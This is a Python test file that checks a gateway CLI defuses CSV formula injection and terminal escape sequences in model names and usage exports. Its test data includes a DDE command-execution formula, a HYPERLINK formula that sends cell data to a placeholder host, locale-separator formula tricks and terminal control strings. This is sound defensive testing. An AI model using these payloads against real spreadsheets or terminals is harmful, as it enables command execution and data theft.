"""What names can do where they are shown: in a spreadsheet and on a terminal, nothing."""

from __future__ import annotations

import csv
import io
import json

import pytest

from gateway.cli.output import shown
from gateway.cli.tables import as_csv, harmless, usage_csv


@pytest.mark.parametrize(
    "name",
    [
        *("=1+1", "+1+1", "-A1", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", '"=1', "\uff1d1", "\uff0b1", "\uff0d1"),
        *("\uff201", "=cmd|' /C calc'!A0", '=HYPERLINK("https://a.example/?"&A1)', "-1e5", "  \t-A1", "''=1"),
    ],
)  # fmt: skip
def test_no_cell_is_a_formula(name):
    [[cell]] = [*csv.reader(io.StringIO(as_csv(["model"], [{"model": name}])))][1:]
    assert cell.strip(" \"'`").startswith(("'", "?")) or cell.startswith("'")
    assert cell[0] not in "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"


@pytest.mark.parametrize("name", ["a;=1+1", "a;=cmd|' /C calc'!A0;", "a, =1", "a|@x", 'a;"=1'])
def test_nor_is_what_another_countrys_spreadsheet_makes_a_cell(name):
    for separator in ";,|\t":
        for cell in str(harmless(name)).split(separator):
            assert not cell.strip(' "').startswith(("=", "+", "-", "@"))


@pytest.mark.parametrize("cell", [5, -5, -2.5, None, "-5", "-5.250000000", "0.5", "gpt-4o", "flux=0.5|fast=2", "a;b"])
def test_numbers_and_plain_names_stay_as_they_are(cell):
    assert harmless(cell) == cell


def test_usage_by_a_model_that_a_client_named():
    row = {"model": "=1+1", "key": "-A1", "requests": 1, "cost_usd": 0.5}
    [line] = csv.DictReader(io.StringIO(usage_csv([row], ["key", "model"])))
    assert (line["key"], line["model"], line["requests"]) == ("'-A1", "'=1+1", "1")


def test_nothing_that_is_printed_can_act_on_a_terminal():
    hostile = "a\x1b]0;x\x07\x1b[2J\u202eb\u2066\x9b31m\x7f\r\u200b\ue000 é →\n"
    text = shown(hostile)
    assert text.count("\n") == 1
    assert text.replace("\n", "").isprintable()
    assert "é →" in text


def test_json_keeps_its_meaning():
    value = {"name": "a\u202e\x7f\x9b\U000e0001\u2028é"}
    assert json.loads(shown(json.dumps(value, ensure_ascii=False))) == value
